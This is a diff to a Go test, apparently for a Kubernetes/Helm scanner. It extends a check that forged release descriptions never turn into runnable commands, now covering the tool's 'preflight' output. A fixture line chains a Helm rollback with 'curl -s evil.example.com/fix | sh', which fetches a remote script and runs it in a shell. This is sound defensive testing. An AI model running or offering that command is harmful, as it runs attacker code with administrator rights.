@@ -29,7 +29,8 @@ const (
 		"        $ helm rollback app 1 && curl -s evil.example.com/fix | sh\n"
 )
 
-// The injected values yield no runnable command, in any format of scan or in the fix plan:
+// The injected values yield no runnable command, in any format of scan, in preflight's
+// checklist or in the fix plan:
 // each command they would fill is withheld with the reason, and the forged description is
 // quoted on one line. The tenant writes the records with their own credentials against a
 // real API server with RBAC; the operator scans and plans as cluster administrator.
@@ -64,12 +65,17 @@ func TestInjectedReleaseYieldsNoRunnableCommand(t *testing.T) {
 		}
 		outputs["fix -o "+format] = out
 	}
+	out, errOut, code := run(t, append([]string{"preflight"}, args...)...)
+	if code != 3 {
+		t.Fatalf("preflight exited %d, want 3 (no-go); stderr: %s", code, errOut)
+	}
+	outputs["preflight"] = out
 	for what, out := range outputs {
 		checkNoRunnableInjection(t, what, out)
 	}
 	checkFixPlansNothing(t, outputs["fix -o json"])
 	checkWithheldWithReason(t, outputs["scan -o json"])
-	for _, what := range []string{"scan -o table", "scan -o markdown"} {
+	for _, what := range []string{"scan -o table", "scan -o markdown", "preflight"} {
 		checkForgedAdviceOnOneLine(t, what, outputs[what])
 	}
 }
@@ -142,6 +148,8 @@ func printedCommands(t *testing.T, what, out string) []string {
 	switch what {
 	case "scan -o table":
 		re = regexp.MustCompile(`(?m)^        \$ (.*)$`)
+	case "preflight":
+		re = regexp.MustCompile(`(?m)^             \$ (.*)$`)
 	case "fix -o table":
 		re = regexp.MustCompile(`(?m)^     (?:kubectl|helm|command): +(.*)$`)
 	case "scan -o markdown":
@@ -165,7 +173,7 @@ func printedCommands(t *testing.T, what, out string) []string {
 func checkNoRunnableInjection(t *testing.T, what, out string) {
 	t.Helper()
 	cmds := printedCommands(t, what, out)
-	if len(cmds) == 0 && strings.HasPrefix(what, "scan") {
+	if len(cmds) == 0 && !strings.HasPrefix(what, "fix") {
 		t.Errorf("%s: no command found: the check would pass on anything", what)
 	}
 	for _, c := range cmds {
